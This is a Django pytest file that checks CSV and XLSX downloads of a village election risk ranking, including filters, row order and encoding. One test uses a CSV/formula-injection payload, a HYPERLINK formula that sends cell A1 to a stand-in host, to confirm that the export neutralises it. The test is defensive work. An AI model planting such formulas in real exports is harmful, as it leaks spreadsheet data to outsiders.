"""The whole ranking as CSV or XLSX, under the page's filters, in the page's order."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from operations.models import RiskLevel
from operations.selectors.ranking import ranking_for_operation, ranking_table
from operations.services.reports import report_verify, risk_override
from tests.operations.risk_setup import build_world
from tests.operations.test_views_reports import _login, _submitted

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(make_user):
    world = build_world(make_user, own_villages=4)
    report_verify(report=_submitted(world), by=world.kabag)
    risk_override(
        village_election=world.own[2], level=RiskLevel.SANGAT_RAWAN, reason="Bentrok", by=world.kabag
    )
    return world


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="peringkat-')
    body = response.content
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 names right only with the BOM
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_lists_every_village_in_ranking_order(client, world):
    _login(client, world.pimpinan)
    lines = _csv(client.get(reverse("ranking-download", args=[world.operation.pk, "csv"])))

    header, rows = lines[0], lines[1:]
    assert header[:6] == ["No.", "Kode desa", "Desa", "Kecamatan", "Polsek", "Tingkat"]
    expected = list(ranking_for_operation(operation=world.operation))
    assert [r[1] for r in rows] == [s.desa_code for s in expected]
    assert [r[0] for r in rows] == [str(n) for n in range(1, len(expected) + 1)]
    first = rows[0]
    assert first[1] == world.own[2].desa.code
    assert (first[2], first[5], first[6], first[7]) == (
        world.own[2].desa.name,
        "Sangat Rawan",
        "ya",
        "Bentrok",
    )
    assert header[6:8] == ["Ditetapkan manual", "Alasan penetapan"]
    assert {r[7] for r in rows[1:]} == {""}
    assert first[3] == world.own[2].desa.kecamatan.name and first[4] == world.unit.name


def test_filters_of_the_page_apply_to_the_download(client, world):
    _login(client, world.kabag)
    url = reverse("ranking-download", args=[world.operation.pk, "csv"])
    rows = _csv(client.get(url, {"kecamatan": world.foreign.desa.kecamatan_id}))[1:]
    assert [r[1] for r in rows] == [world.foreign.desa.code]
    rows = _csv(client.get(url, {"level": RiskLevel.AMAN}))[1:]
    assert [r[1] for r in rows] == [world.own[0].desa.code]


def test_xlsx_holds_the_same_rows(client, world):
    _login(client, world.kabag)
    response = client.get(reverse("ranking-download", args=[world.operation.pk, "xlsx"]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.values)
    assert values[0][0] == world.operation.name
    assert values[1][1] == "Kode desa"
    table = ranking_table(operation=world.operation)
    assert [row[1] for row in values[2:]] == [row[0] for row in table]
    assert [row[8] for row in values[2:]] == [float(row[7]) for row in table]
    assert values[2][7] == "Bentrok"


def test_a_reason_typed_as_a_formula_stays_text(client, world):
    risk_override(
        village_election=world.own[2],
        level=RiskLevel.SANGAT_RAWAN,
        reason='=HYPERLINK("http://x.example/?"&A1,"klik")',
        by=world.kabag,
    )
    _login(client, world.kabag)
    rows = _csv(client.get(reverse("ranking-download", args=[world.operation.pk, "csv"])))[1:]
    assert rows[0][7] == '\'=HYPERLINK("http://x.example/?"&A1,"klik")'
    response = client.get(reverse("ranking-download", args=[world.operation.pk, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = list(sheet.iter_rows(min_row=3, max_row=3))[0][7]
    assert cell.data_type == "s" and cell.value.startswith("'=")


def test_ranking_page_links_the_download_with_its_filters(client, world):
    _login(client, world.pimpinan)
    response = client.get(reverse("ranking", args=[world.operation.pk]), {"level": "2"})
    assert (
        f"{reverse('ranking-download', args=[world.operation.pk, 'xlsx'])}?level=2"
        in response.content.decode()
    )
